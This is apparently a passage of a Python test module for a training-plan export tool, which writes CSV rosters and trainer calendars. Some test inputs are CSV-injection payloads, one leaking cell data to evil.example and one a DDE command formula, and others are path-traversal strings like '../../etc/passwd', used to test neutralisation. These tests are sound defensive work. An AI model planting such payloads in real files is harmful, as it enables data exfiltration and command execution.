"""``trafficplan export``: rosters, schedule and calendars read back and compared with the plan.

Most tests export a hand-built plan on the tiny instance (``datafactory.tiny``): alpha's
session on Tue 2009-06-02 with t01 and alpha-ngo, beta's on Wed 2009-06-03 with t02 and
beta-ngo, every officer of each region seated; the checker finds it valid.
"""

from __future__ import annotations

import copy
import csv
import io
import json
import re
from datetime import date, timedelta
from pathlib import Path
from typing import Any

import pytest
from icalendar import Calendar
from typer.testing import CliRunner

from datafactory import tiny, write_data
from trafficplan.checker import check_plan
from trafficplan.cli import app
from trafficplan.exports import (
    ROSTER_HEADER,
    SCHEDULE_HEADER,
    build_export,
    csv_bytes,
    event_uid,
    programme_id,
    safe_cell,
    safe_file_stem,
    unique_file_stems,
    write_export,
)
from trafficplan.inputs import load_data
from trafficplan.plan import parse_plan

runner = CliRunner()

PROGRAMME = "programme-2009"
"""The tiny data's programme identifier in calendar UIDs: no title, a window in 2009."""
ALPHA_OFFICERS = [f"ALP-{i:04d}" for i in range(1, 21)]
BETA_OFFICERS = [f"BET-{i:04d}" for i in range(1, 21)]


def session(
    ident: str, region: str, day: str, trainers: list[str], officers: list[str], ngo: str = ""
) -> dict[str, Any]:
    """A plan session at the region's only venue with its first NGO."""
    return {
        "id": ident,
        "region": region,
        "venue": f"{region}-hall",
        "date": day,
        "trainers": list(trainers),
        "ngos": [ngo or f"{region}-ngo"],
        "officers": list(officers),
    }


def uid(session_id: str, trainer_id: str) -> str:
    """The UID of a session's event in one trainer's calendar of the tiny data."""
    return event_uid(session_id, trainer_id, PROGRAMME)


def plan_doc(*sessions: dict[str, Any]) -> dict[str, Any]:
    """A plan document with these sessions."""
    return {"format": "trafficplan-plan/1", "status": "feasible", "sessions": list(sessions)}


def valid_plan() -> dict[str, Any]:
    """The valid plan of the tiny instance described in the module docstring."""
    return plan_doc(
        session("alpha-01", "alpha", "2009-06-02", ["t01"], ALPHA_OFFICERS),
        session("beta-01", "beta", "2009-06-03", ["t02"], BETA_OFFICERS),
    )


def write_json(path: Path, document: dict[str, Any]) -> Path:
    """Write a plan document as JSON."""
    path.write_text(json.dumps(document), encoding="utf-8")
    return path


def export(tmp_path: Path, data_dir: Path, document: dict[str, Any], *extra: str) -> Any:
    """Run ``trafficplan export`` of ``document`` into ``tmp_path/out``."""
    plan_file = write_json(tmp_path / "plan.json", document)
    args = ["export", str(plan_file), "--out", str(tmp_path / "out"), "--data", str(data_dir)]
    return runner.invoke(app, [*args, *extra])


def read_csv(path: Path) -> list[dict[str, str]]:
    """A CSV export read back as a spreadsheet would (BOM stripped, quoted newlines kept)."""
    with path.open(encoding="utf-8-sig", newline="") as handle:
        return list(csv.DictReader(handle))


def read_events(path: Path) -> dict[str, Any]:
    """The events of an exported calendar, by UID."""
    calendar = Calendar.from_ical(path.read_bytes())
    return {str(event["UID"]): event for event in calendar.walk("VEVENT")}


def with_gamma(data: dict[str, Any]) -> dict[str, Any]:
    """The tiny instance plus a region gamma that may have no session at all."""
    data["regions"]["regions"].append(
        {
            "id": "gamma",
            "name": "Gamma",
            "centre": {"city": "Gamma City", "lat": 50.5, "lon": 30.4},
            "districts": ["gamma-central"],
            "sessions": {"min": 0, "max": 1},
            "venues": [{"id": "gamma-hall", "name": "Gamma Hall", "capacity": 20}],
            "ngos": [{"id": "gamma-ngo", "name": "Gamma NGO"}],
        }
    )
    return data


def test_the_hand_built_plan_is_valid(tiny_folder: Path) -> None:
    data = load_data(tiny_folder)
    report = check_plan(data, parse_plan(valid_plan()))
    assert report.valid, [v.message for v in report.violations]


def test_export_files_match_the_plan(tmp_path: Path) -> None:
    data_dict = with_gamma(tiny())
    data_dict["regions"]["regions"][0]["venues"][0]["address"] = "vul. Shevchenka 1, Alpha City"
    data_dir = write_data(tmp_path / "data", data_dict)
    data = load_data(data_dir)
    assert check_plan(data, parse_plan(valid_plan())).valid

    result = export(tmp_path, data_dir, valid_plan())

    assert result.exit_code == 0, result.output
    out = tmp_path / "out"
    assert sorted(p.relative_to(out).as_posix() for p in out.rglob("*") if p.is_file()) == [
        "calendars/t01.ics",
        "calendars/t02.ics",
        "costs.csv",
        "reserves.csv",
        "rosters/alpha.csv",
        "rosters/beta.csv",
        "rosters/gamma.csv",
        "schedule.csv",
        "summary.csv",
        "unassigned.csv",
    ]

    alpha = read_csv(out / "rosters" / "alpha.csv")
    assert list(alpha[0]) == list(ROSTER_HEADER)
    assert [row["officer_id"] for row in alpha] == ALPHA_OFFICERS
    for row in alpha:
        officer = data.officer_by_id[row["officer_id"]]
        assert row == {
            "session_id": "alpha-01",
            "date": "2009-06-02",
            "venue": "alpha-hall",
            "officer_id": officer.id,
            "officer_name": officer.name,
            "district": officer.district,
            "weekday": "Tue",
            "start_time": "",  # all-day sessions
            "venue_name": "Alpha Hall",
            "venue_address": "vul. Shevchenka 1, Alpha City",
            "trainer_names": "Olena Kovalenko",
            "ngo_names": "Alpha Women's Centre",
            "status": "planned",
        }
    beta = read_csv(out / "rosters" / "beta.csv")
    assert [row["officer_id"] for row in beta] == BETA_OFFICERS
    assert beta[0]["venue_address"] == ""  # the data give no address for Beta Hall
    # A region without sessions still gets its roster: the header alone.
    assert (out / "rosters" / "gamma.csv").read_bytes() == (
        b"\xef\xbb\xbfsession_id,date,venue,officer_id,officer_name,district,weekday,start_time,"
        b"venue_name,venue_address,trainer_names,ngo_names,status\r\n"
    )
    # every officer has a session: the header alone
    assert (out / "unassigned.csv").read_bytes() == (
        b"\xef\xbb\xbfofficer_id,officer_name,region,district,reason\r\n"
    )

    schedule = read_csv(out / "schedule.csv")
    assert list(schedule[0]) == list(SCHEDULE_HEADER)
    assert schedule == [
        {
            "session_id": "alpha-01",
            "date": "2009-06-02",
            "weekday": "Tue",
            "region": "alpha",
            "venue": "alpha-hall",
            "trainers": "t01",
            "ngos": "alpha-ngo",
            "officers": "20",
        },
        {
            "session_id": "beta-01",
            "date": "2009-06-03",
            "weekday": "Wed",
            "region": "beta",
            "venue": "beta-hall",
            "trainers": "t02",
            "ngos": "beta-ngo",
            "officers": "20",
        },
    ]

    calendar = Calendar.from_ical((out / "calendars" / "t01.ics").read_bytes())
    assert str(calendar["VERSION"]) == "2.0"
    assert str(calendar["PRODID"]).startswith("-//trafficplan//")
    assert str(calendar["CALSCALE"]) == "GREGORIAN"
    assert str(calendar["METHOD"]) == "PUBLISH"
    assert "Olena Kovalenko" in str(calendar["X-WR-CALNAME"])
    events = calendar.walk("VEVENT")
    assert len(events) == 1
    event = events[0]
    assert str(event["UID"]) == "alpha-01.t01.programme-2009@trafficplan"
    assert str(event["UID"]) == event_uid("alpha-01", "t01", PROGRAMME)
    assert event.decoded("DTSTART") == date(2009, 6, 2)
    assert event.decoded("DTEND") == date(2009, 6, 3)
    assert event["DTSTART"].params.get("VALUE") == "DATE"
    assert "Alpha" in str(event["SUMMARY"]) and "Alpha Hall" in str(event["SUMMARY"])
    description = str(event["DESCRIPTION"])
    for expected in (
        "Alpha",
        "Alpha Hall, vul. Shevchenka 1, Alpha City",
        "Alpha Women's Centre",
        "Officers: 20",
        "alpha-01",
    ):
        assert expected in description
    assert str(event["LOCATION"]) == "Alpha Hall, vul. Shevchenka 1, Alpha City"
    assert (event["GEO"].latitude, event["GEO"].longitude) == data.venue_point("alpha-hall")
    assert int(event["SEQUENCE"]) == 0
    assert str(event["STATUS"]) == "CONFIRMED"
    assert "DTSTAMP" in event
    assert list(read_events(out / "calendars" / "t02.ics")) == [uid("beta-01", "t02")]


def test_csv_files_are_utf8_with_bom_and_crlf(tmp_path: Path, tiny_folder: Path) -> None:
    assert export(tmp_path, tiny_folder, valid_plan()).exit_code == 0
    for path in [tmp_path / "out" / "schedule.csv", *(tmp_path / "out" / "rosters").iterdir()]:
        raw = path.read_bytes()
        assert raw.startswith(b"\xef\xbb\xbf"), path
        assert raw.count(b"\r\n") == raw.count(b"\n"), path
        assert raw.endswith(b"\r\n")


def test_cyrillic_names_round_trip(tmp_path: Path) -> None:
    data_dict = tiny()
    data_dict["officers"][0]["name"] = "Ґалина Їжакевич-Щербань"
    data_dir = write_data(tmp_path / "data", data_dict)

    assert export(tmp_path, data_dir, valid_plan()).exit_code == 0

    raw = (tmp_path / "out" / "rosters" / "alpha.csv").read_bytes()
    assert "Ґалина Їжакевич-Щербань".encode() in raw
    names = {row["officer_id"]: row["officer_name"] for row in read_csv(raw_path(tmp_path))}
    assert names["ALP-0001"] == "Ґалина Їжакевич-Щербань"
    assert names["ALP-0002"] == "Офіцер ALP 2"


def raw_path(tmp_path: Path) -> Path:
    """Alpha's roster in the export folder."""
    return tmp_path / "out" / "rosters" / "alpha.csv"


def test_quotes_commas_and_newlines_in_names_survive(tmp_path: Path) -> None:
    tricky = {
        0: 'Kovalenko, Olena "Olia"',
        1: "Shevchenko\nPetro",
        2: 'a,"b",\r\nc',
    }
    data_dict = tiny()
    for index, name in tricky.items():
        data_dict["officers"][index]["name"] = name
    data_dir = write_data(tmp_path / "data", data_dict)
    data = load_data(data_dir)

    assert export(tmp_path, data_dir, valid_plan()).exit_code == 0

    names = {row["officer_id"]: row["officer_name"] for row in read_csv(raw_path(tmp_path))}
    for index in tricky:
        officer = data.officers[index]
        assert names[officer.id] == officer.name
    assert len(names) == 20


@pytest.mark.parametrize(
    "name",
    ['=HYPERLINK("http://evil.example/?leak="&A1,"click")', "+1", "-2", "@SUM(A1:A9)"],
)
def test_formula_names_are_neutralised_in_rosters(tmp_path: Path, name: str) -> None:
    data_dict = tiny()
    data_dict["officers"][0]["name"] = name
    data_dir = write_data(tmp_path / "data", data_dict)

    assert export(tmp_path, data_dir, valid_plan()).exit_code == 0

    names = {row["officer_id"]: row["officer_name"] for row in read_csv(raw_path(tmp_path))}
    assert names["ALP-0001"] == "'" + name


def test_formula_officer_id_is_neutralised(tmp_path: Path) -> None:
    data_dict = tiny()
    data_dict["officers"][0]["id"] = "=1+1"
    data_dir = write_data(tmp_path / "data", data_dict)
    document = valid_plan()
    document["sessions"][0]["officers"][0] = "=1+1"

    assert export(tmp_path, data_dir, document).exit_code == 0

    ids = [row["officer_id"] for row in read_csv(raw_path(tmp_path))]
    assert "'=1+1" in ids and "=1+1" not in ids


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"),
        ("+1", "'+1"),
        ("-2", "'-2"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tTAB", "'\tTAB"),
        ("\rCR", "'\rCR"),
        ("2009-06-02", "2009-06-02"),
        ("a=b", "a=b"),
        ("Олена", "Олена"),
        ("", ""),
        (None, ""),
        (20, "20"),
    ],
)
def test_safe_cell(value: object, expected: str) -> None:
    assert safe_cell(value) == expected


def test_csv_bytes_neutralises_and_quotes_every_cell() -> None:
    raw = csv_bytes(["h,1", "=h2"], [["\tx", "\ry"], ['say "hi"', "line\nbreak"]])
    assert raw.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline="")))
    assert rows == [["h,1", "'=h2"], ["'\tx", "'\ry"], ['say "hi"', "line\nbreak"]]


@pytest.mark.parametrize(
    "identifier",
    [
        "../../etc/passwd",
        "..\\..\\windows\\system32",
        "/etc/passwd",
        ".hidden",
        "..",
        ".",
        "",
        "-rf",
        "a/b",
        "C:\\x",
        "name\x00with-nul",
        "тренер",
        "x" * 500,
    ],
)
def test_safe_file_stem_cannot_escape_or_hide(identifier: str) -> None:
    stem = safe_file_stem(identifier)
    assert stem
    assert "/" not in stem and "\\" not in stem and ".." not in stem and "\x00" not in stem
    assert not stem.startswith((".", "-", "_"))
    assert len(stem) <= 64
    assert all(ch.isascii() and (ch.isalnum() or ch in "-_") for ch in stem)


def test_safe_file_stem_keeps_plain_ids_and_renames_device_names() -> None:
    assert safe_file_stem("t01") == "t01"
    assert safe_file_stem("khmelnytskyi") == "khmelnytskyi"
    assert safe_file_stem("../../etc/passwd") == "etc-passwd"
    assert safe_file_stem("CON") == "CON_"
    assert safe_file_stem("com1") == "com1_"


def test_unique_file_stems_are_distinct_ignoring_case_and_order_free() -> None:
    ids = ["T01", "t01", "a.b", "a-b", "a/b", "c", "../c"]
    stems = unique_file_stems(ids)
    assert len({stem.lower() for stem in stems.values()}) == len(ids)
    assert stems["c"] != stems["../c"]
    assert unique_file_stems(reversed(ids)) == stems
    assert unique_file_stems(["t01", "t02"]) == {"t01": "t01", "t02": "t02"}


def test_tricky_trainer_ids_give_safe_distinct_calendar_names(tmp_path: Path) -> None:
    data_dict = tiny()
    first, second = data_dict["trainers"]["trainers"]
    first["id"], second["id"] = "x..y", "CON"
    data_dict["trainers"]["trainers"].append(
        {**copy.deepcopy(second), "id": "con", "name": "Other"}
    )
    data_dir = write_data(tmp_path / "data", data_dict)
    document = plan_doc(
        session("alpha-01", "alpha", "2009-06-02", ["x..y"], ALPHA_OFFICERS),
        session("beta-01", "beta", "2009-06-03", ["CON"], BETA_OFFICERS),
    )

    result = export(tmp_path, data_dir, document)

    assert result.exit_code == 0, result.output
    calendars = sorted(path.name for path in (tmp_path / "out" / "calendars").iterdir())
    stems = unique_file_stems(["x..y", "CON", "con"])
    assert calendars == sorted([f"{stems['x..y']}.ics", f"{stems['CON']}.ics"])
    assert stems["x..y"] == "x-y"
    assert stems["CON"].startswith("CON_-")
    assert sorted(path.name for path in tmp_path.iterdir()) == ["data", "out", "plan.json"]
    assert list(read_events(tmp_path / "out" / "calendars" / f"{stems['CON']}.ics")) == [
        uid("beta-01", "CON")
    ]


def test_reexport_keeps_uids_and_bytes(tmp_path: Path, tiny_folder: Path) -> None:
    assert export(tmp_path, tiny_folder, valid_plan()).exit_code == 0
    calendars = tmp_path / "out" / "calendars"
    before = {path.name: path.read_bytes() for path in calendars.iterdir()}

    result = export(tmp_path, tiny_folder, valid_plan(), "--json")

    assert result.exit_code == 0, result.output
    assert {path.name: path.read_bytes() for path in calendars.iterdir()} == before
    assert {item["status"] for item in json.loads(result.stdout)["files"]} == {"unchanged"}
    assert list(read_events(calendars / "t01.ics")) == [uid("alpha-01", "t01")]


def replanned() -> dict[str, Any]:
    """The valid plan after a re-plan: alpha moved to t02, beta moved to Thursday."""
    return plan_doc(
        session("alpha-01", "alpha", "2009-06-02", ["t02"], ALPHA_OFFICERS),
        session("beta-01", "beta", "2009-06-04", ["t02"], BETA_OFFICERS),
    )


def test_reexport_after_replan_cancels_and_bumps_sequence(
    tmp_path: Path, tiny_folder: Path
) -> None:
    data = load_data(tiny_folder)
    assert check_plan(data, parse_plan(replanned())).valid
    assert export(tmp_path, tiny_folder, valid_plan()).exit_code == 0

    result = export(tmp_path, tiny_folder, replanned())

    assert result.exit_code == 0, result.output
    calendars = tmp_path / "out" / "calendars"
    old_trainer = read_events(calendars / "t01.ics")
    assert list(old_trainer) == [uid("alpha-01", "t01")]
    cancelled = old_trainer[uid("alpha-01", "t01")]
    assert str(cancelled["STATUS"]) == "CANCELLED"
    assert int(cancelled["SEQUENCE"]) == 1
    assert cancelled.decoded("DTSTART") == date(2009, 6, 2)

    new_trainer = read_events(calendars / "t02.ics")
    assert set(new_trainer) == {uid("alpha-01", "t02"), uid("beta-01", "t02")}
    assert int(new_trainer[uid("alpha-01", "t02")]["SEQUENCE"]) == 0
    moved = new_trainer[uid("beta-01", "t02")]
    assert moved.decoded("DTSTART") == date(2009, 6, 4)
    assert moved.decoded("DTEND") == date(2009, 6, 4) + timedelta(days=1)
    assert int(moved["SEQUENCE"]) == 1
    assert str(moved["STATUS"]) == "CONFIRMED"

    # A third export of the same plan changes nothing: the cancellation is not re-announced.
    before = (calendars / "t01.ics").read_bytes()
    assert export(tmp_path, tiny_folder, replanned()).exit_code == 0
    assert (calendars / "t01.ics").read_bytes() == before


def all_events(calendars: Path) -> list[tuple[str, str, str]]:
    """Every event of every exported calendar as ``(file, UID, STATUS)``, as merged into one
    calendar: duplicates kept."""
    return [
        (path.name, str(event["UID"]), str(event["STATUS"]))
        for path in sorted(calendars.glob("*.ics"))
        for event in Calendar.from_ical(path.read_bytes()).walk("VEVENT")
    ]


def test_a_swapped_session_has_distinct_uids_so_calendars_merge(
    tmp_path: Path, tiny_folder: Path
) -> None:
    # before the change: one UID per session id, so t01's CANCELLED and t02's CONFIRMED
    # event of alpha-01 had the same UID and one calendar holding both dropped the session
    assert export(tmp_path, tiny_folder, valid_plan()).exit_code == 0
    assert export(tmp_path, tiny_folder, replanned()).exit_code == 0

    events = all_events(tmp_path / "out" / "calendars")
    uids = [uid_ for _file, uid_, _status in events]
    assert len(uids) == len(set(uids)) == 3
    assert ("t01.ics", uid("alpha-01", "t01"), "CANCELLED") in events
    assert ("t02.ics", uid("alpha-01", "t02"), "CONFIRMED") in events
    assert ("t02.ics", uid("beta-01", "t02"), "CONFIRMED") in events


def test_two_trainers_of_one_session_get_one_uid_each(tmp_path: Path) -> None:
    data_dict = tiny()
    data_dict["constraints"]["trainers"]["per_session"] = 2
    data_dir = write_data(tmp_path / "data", data_dict)
    document = plan_doc(
        session("alpha-01", "alpha", "2009-06-02", ["t01", "t02"], ALPHA_OFFICERS),
        session("beta-01", "beta", "2009-06-03", ["t01", "t02"], BETA_OFFICERS),
    )
    assert check_plan(load_data(data_dir), parse_plan(document)).valid

    assert export(tmp_path, data_dir, document).exit_code == 0

    events = all_events(tmp_path / "out" / "calendars")
    assert len({uid_ for _file, uid_, _status in events}) == len(events) == 4
    assert sorted(uid_ for _file, uid_, _status in events) == sorted(
        uid(s, t) for s in ("alpha-01", "beta-01") for t in ("t01", "t02")
    )


def test_uids_stay_the_same_across_a_replan(tmp_path: Path, tiny_folder: Path) -> None:
    # a real re-plan with edits (t01 on leave all window, a later window end): the programme
    # identifier, and so every kept event's UID, does not change
    plan_file = write_json(tmp_path / "plan.json", valid_plan())
    new_file = tmp_path / "new.json"
    replan = runner.invoke(
        app,
        [
            "replan", str(plan_file), "--since", "2009-06-01", "--out", str(new_file),
            "--data", str(tiny_folder), "--time-limit", "20", "--workers", "1",
            "--set", "trainers.t01.unavailable=[2009-06-01..2009-06-12]",
            "--set", "window.end=2009-06-19",
        ],
    )  # fmt: skip
    assert replan.exit_code == 0, replan.output
    assert export(tmp_path, tiny_folder, valid_plan()).exit_code == 0
    first = {u for _f, u, _s in all_events(tmp_path / "out" / "calendars")}
    exported = runner.invoke(
        app, ["export", str(new_file), "--out", str(tmp_path / "out"), "--data", str(tiny_folder)]
    )
    assert exported.exit_code == 0, exported.output

    events = all_events(tmp_path / "out" / "calendars")
    uids = [u for _f, u, _s in events]
    assert len(uids) == len(set(uids))
    assert first <= set(uids)  # every earlier event is still there, under its own UID
    assert ("t01.ics", uid("alpha-01", "t01"), "CANCELLED") in events
    assert all(u.endswith(f".{PROGRAMME}@trafficplan") for u in uids)
    edited = tiny()
    edited["constraints"]["window"]["end"] = "2009-06-19"
    assert programme_id(load_data(write_data(tmp_path / "edited", edited))) == PROGRAMME


def test_two_programmes_get_different_identifiers(tmp_path: Path) -> None:
    def identifier(name: str, title: str | None, start: str = "2009-06-01") -> str:
        data_dict = tiny()
        data_dict["constraints"]["window"]["start"] = start
        if title is not None:
            data_dict["constraints"]["programme"] = {"title": title}
        return programme_id(load_data(write_data(tmp_path / name, data_dict)))

    meetings = "Training and networking meetings for precinct police inspectors"
    assert identifier("untitled", None) == "programme-2009"
    first = identifier("first", meetings)
    assert first.startswith("training-and-networking-meetings-") and first.endswith("-2009")
    assert len(first) <= 32 + len("-123456-2009")
    assert first == identifier("again", meetings)  # derived from the data: the same again
    ids = {
        first,
        identifier("later", meetings, start="2008-06-02"),  # the same title, another year
        identifier("heads", "Training and networking meetings for heads of services"),
        identifier("cyrillic", "Тренінги для дільничних інспекторів міліції"),
        identifier("untitled", None),
    }
    assert len(ids) == 5
    assert all(re_uid_part.fullmatch(i) for i in ids)


re_uid_part = re.compile(r"[a-z0-9]+(-[a-z0-9]+)*")
"""What a programme identifier is made of: it sits in a UID between dots."""


def test_session_back_to_its_trainer_is_confirmed_with_higher_sequence(
    tmp_path: Path, tiny_folder: Path
) -> None:
    for document in (valid_plan(), replanned(), valid_plan()):
        assert export(tmp_path, tiny_folder, document).exit_code == 0
    event = read_events(tmp_path / "out" / "calendars" / "t01.ics")[uid("alpha-01", "t01")]
    assert str(event["STATUS"]) == "CONFIRMED"
    assert int(event["SEQUENCE"]) == 2
    assert not str(event["SUMMARY"]).startswith("Cancelled")


def test_unknown_ids_exit_3_and_write_nothing(tmp_path: Path, tiny_folder: Path) -> None:
    document = valid_plan()
    document["sessions"][0]["trainers"] = ["t99"]

    result = export(tmp_path, tiny_folder, document)

    assert result.exit_code == 3
    assert "unknown trainer 't99'" in result.output
    assert "Traceback" not in result.output
    assert not (tmp_path / "out").exists()


def rule_breaking_plan() -> dict[str, Any]:
    """The valid plan with alpha's session on a Saturday (breaks ``calendar``)."""
    document = valid_plan()
    document["sessions"][0]["date"] = "2009-06-06"
    return document


def test_rule_breaking_plan_is_refused_without_force(tmp_path: Path, tiny_folder: Path) -> None:
    result = export(tmp_path, tiny_folder, rule_breaking_plan())

    assert result.exit_code == 1
    assert "calendar" in result.output
    assert "alpha-01" in result.output
    assert "use --force to export anyway" in result.output
    assert not (tmp_path / "out").exists()


def test_rule_breaking_plan_exports_with_force(tmp_path: Path, tiny_folder: Path) -> None:
    result = export(tmp_path, tiny_folder, rule_breaking_plan(), "--force", "--json")

    assert result.exit_code == 0, result.output
    report = json.loads(result.stdout)
    assert report["forced"] is True and report["violations"] >= 1
    schedule = read_csv(tmp_path / "out" / "schedule.csv")
    assert [(row["session_id"], row["weekday"]) for row in schedule] == [
        ("beta-01", "Wed"),
        ("alpha-01", "Sat"),
    ]


def test_json_lists_every_file(tmp_path: Path, tiny_folder: Path) -> None:
    result = export(tmp_path, tiny_folder, valid_plan(), "--json")

    assert result.exit_code == 0, result.output
    report = json.loads(result.stdout)
    files = {item["path"]: item for item in report["files"]}
    assert set(files) == {
        "rosters/alpha.csv",
        "rosters/beta.csv",
        "schedule.csv",
        "unassigned.csv",
        "costs.csv",
        "summary.csv",
        "reserves.csv",
        "calendars/t01.ics",
        "calendars/t02.ics",
    }
    assert files["rosters/alpha.csv"]["rows"] == 20
    assert files["schedule.csv"]["rows"] == 2
    assert (files["unassigned.csv"]["kind"], files["unassigned.csv"]["rows"]) == ("unassigned", 0)
    assert (files["costs.csv"]["kind"], files["costs.csv"]["rows"]) == ("costs", 2 * 7)
    assert files["calendars/t01.ics"]["events"] == 1
    assert files["calendars/t01.ics"]["subject"] == "t01"
    assert {item["status"] for item in report["files"]} == {"new"}
    assert report["violations"] == 0 and report["forced"] is False


def test_human_output_names_the_files(tmp_path: Path, tiny_folder: Path) -> None:
    result = export(tmp_path, tiny_folder, valid_plan())

    assert result.exit_code == 0, result.output
    for expected in ("rosters/alpha.csv", "schedule.csv", "calendars/t02.ics", "20 rows"):
        assert expected in result.stdout
    assert "9 file(s) written" in result.stdout


def test_failure_midway_keeps_previous_files_and_says_what_was_written(
    tmp_path: Path, tiny_folder: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    assert export(tmp_path, tiny_folder, valid_plan()).exit_code == 0
    out = tmp_path / "out"
    before = {path: path.read_bytes() for path in out.rglob("*") if path.is_file()}

    import trafficplan.exports.bundle as bundle

    real_write = bundle.write_bytes_atomic
    calls: list[Path] = []

    def failing_write(path: Path, data: bytes) -> None:
        calls.append(path)
        if len(calls) == 3:
            raise OSError(28, "No space left on device")
        real_write(path, data)

    monkeypatch.setattr(bundle, "write_bytes_atomic", failing_write)
    result = export(tmp_path, tiny_folder, replanned())

    assert result.exit_code == 2
    assert "No space left on device" in result.output
    assert "written before the failure (2)" in result.output
    assert "Traceback" not in result.output
    after = {path: path.read_bytes() for path in out.rglob("*") if path.is_file()}
    assert set(after) == set(before)  # no temp file left behind
    failed = calls[2]
    assert after[failed] == before[failed]
    for untouched in set(before) - set(calls):
        assert after[untouched] == before[untouched]
    for written in calls[:2]:
        assert after[written] != before[written]


def test_unreadable_previous_calendar_exits_3_before_writing(
    tmp_path: Path, tiny_folder: Path
) -> None:
    calendars = tmp_path / "out" / "calendars"
    calendars.mkdir(parents=True)
    (calendars / "t01.ics").write_bytes(b"\x00\xffthis is not a calendar")

    result = export(tmp_path, tiny_folder, valid_plan())

    assert result.exit_code == 3
    assert "t01.ics" in result.output
    assert "Traceback" not in result.output
    assert not (tmp_path / "out" / "schedule.csv").exists()


def test_calendar_of_a_trainer_without_sessions_now_is_kept_up_to_date(
    tmp_path: Path, tiny_folder: Path
) -> None:
    assert export(tmp_path, tiny_folder, valid_plan()).exit_code == 0
    only_beta_by_t02 = plan_doc(session("beta-01", "beta", "2009-06-03", ["t02"], BETA_OFFICERS))

    result = export(tmp_path, tiny_folder, only_beta_by_t02, "--force", "--json")

    assert result.exit_code == 0, result.output
    paths = {item["path"] for item in json.loads(result.stdout)["files"]}
    assert "calendars/t01.ics" in paths
    event = read_events(tmp_path / "out" / "calendars" / "t01.ics")[uid("alpha-01", "t01")]
    assert str(event["STATUS"]) == "CANCELLED"


def test_calendars_of_no_trainer_in_the_data_are_left_alone(
    tmp_path: Path, tiny_folder: Path
) -> None:
    calendars = tmp_path / "out" / "calendars"
    calendars.mkdir(parents=True)
    (calendars / "t77.ics").write_bytes(b"keep me")

    result = export(tmp_path, tiny_folder, valid_plan())

    assert result.exit_code == 0, result.output
    assert (calendars / "t77.ics").read_bytes() == b"keep me"
    assert "calendars/t77.ics" in result.output


def test_out_that_is_a_file_is_a_usage_error(tmp_path: Path, tiny_folder: Path) -> None:
    (tmp_path / "out").write_text("not a folder")

    result = export(tmp_path, tiny_folder, valid_plan())

    assert result.exit_code == 2
    assert "not a folder" in result.output


def test_missing_plan_file_exits_3(tmp_path: Path, tiny_folder: Path) -> None:
    args = ["export", str(tmp_path / "nope.json"), "--out", str(tmp_path / "out")]
    result = runner.invoke(app, [*args, "--data", str(tiny_folder)])

    assert result.exit_code == 3
    assert "plan file not found" in result.output


def test_library_build_is_deterministic_for_a_fixed_time(tiny_folder: Path, tmp_path: Path) -> None:
    from datetime import UTC, datetime

    data = load_data(tiny_folder)
    plan = parse_plan(valid_plan())
    moment = datetime(2009, 5, 1, 12, 0, tzinfo=UTC)
    first = build_export(data, plan, tmp_path / "out", now=moment)
    second = build_export(data, plan, tmp_path / "out", now=moment)
    assert [(f.path, f.content) for f in first.files] == [(f.path, f.content) for f in second.files]
    written = write_export(first, tmp_path / "out")
    assert [item.status for item in written] == ["new"] * 9
    event = read_events(tmp_path / "out" / "calendars" / "t01.ics")[uid("alpha-01", "t01")]
    assert event.decoded("DTSTAMP") == moment


def test_checker_warnings_are_shown_but_do_not_stop_the_export(
    tmp_path: Path, tiny_folder: Path
) -> None:
    data = load_data(tiny_folder)
    document = valid_plan()
    document["inputs"] = {"sha256": {**data.digests, "officers.csv": "0" * 64}}

    result = export(tmp_path, tiny_folder, document, "--json")

    assert result.exit_code == 0, result.output
    warnings = json.loads(result.stdout)["warnings"]
    assert any("officers.csv" in warning for warning in warnings)
    assert (tmp_path / "out" / "schedule.csv").exists()


def test_paths_with_markup_brackets_are_printed_verbatim(tmp_path: Path, tiny_folder: Path) -> None:
    missing = tmp_path / "plan[/bold].json"
    result = runner.invoke(
        app, ["export", str(missing), "--out", str(tmp_path / "o[red]"), "--data", str(tiny_folder)]
    )
    assert result.exit_code == 3
    assert "plan[/bold].json: plan file not found" in result.output

    plan_file = write_json(tmp_path / "p[bold].json", valid_plan())
    out = tmp_path / "o[/red]"
    result = runner.invoke(
        app, ["export", str(plan_file), "--out", str(out), "--data", str(tiny_folder)]
    )
    assert result.exit_code == 0, result.output
    assert "o[/red]" in result.stdout


# ----- what goes out of the office (spec 6.8): rosters to forward, who was left out, costs ----
def with_contacts(data: dict[str, Any]) -> dict[str, Any]:
    """The tiny instance with times, addresses, contacts and every cost component set."""
    alpha, beta = data["regions"]["regions"]
    alpha["contact"] = "Alpha police directorate, +380 44 000 01 00"
    alpha["ngos"][0]["contact"] = "Hotline +380 44 000 02 01"
    alpha["venues"][0].update(address="vul. Shevchenka 1, Alpha City", day_rate_eur=150)
    beta["venues"][0]["day_rate_eur"] = 90.5
    data["trainers"]["trainers"][0].update(
        email="o.kovalenko@example.org", phone="+380 50 000 00 01", per_diem_eur=20
    )
    data["constraints"]["sessions"].update(start_time="10:00", end_time="17:30")
    data["constraints"]["sessions"]["per_person_eur"] = 12.5
    data["constraints"]["officers"]["travel_eur"] = 8
    return data


def test_rosters_carry_the_weekday_start_time_names_and_status(tmp_path: Path) -> None:
    data_dir = write_data(tmp_path / "data", with_contacts(tiny()))
    document = valid_plan()
    document["sessions"][0]["trainers"] = ["t01", "t02"]  # two trainers: both names
    document["sessions"][1]["date"] = "2009-06-05"

    assert export(tmp_path, data_dir, document, "--force").exit_code == 0

    alpha = read_csv(tmp_path / "out" / "rosters" / "alpha.csv")
    # the spec's six columns stay in place
    assert list(alpha[0])[:6] == [
        "session_id",
        "date",
        "venue",
        "officer_id",
        "officer_name",
        "district",
    ]
    first = alpha[0]
    assert [first[k] for k in ROSTER_HEADER[6:]] == [
        "Tue",
        "10:00",
        "Alpha Hall",
        "vul. Shevchenka 1, Alpha City",
        "Olena Kovalenko;Petro Shevchenko",
        "Alpha Women's Centre",
        "planned",
    ]
    beta = read_csv(tmp_path / "out" / "rosters" / "beta.csv")
    assert {(row["weekday"], row["venue_address"], row["status"]) for row in beta} == {
        ("Fri", "", "planned")
    }


def test_unassigned_lists_every_officer_without_a_session_with_the_reason(
    tmp_path: Path,
) -> None:
    data_dict = with_gamma(tiny())
    data_dict["officers"].append(
        {
            "id": "GAM-0001",
            "name": "Офіцер GAM 1",
            "region": "gamma",
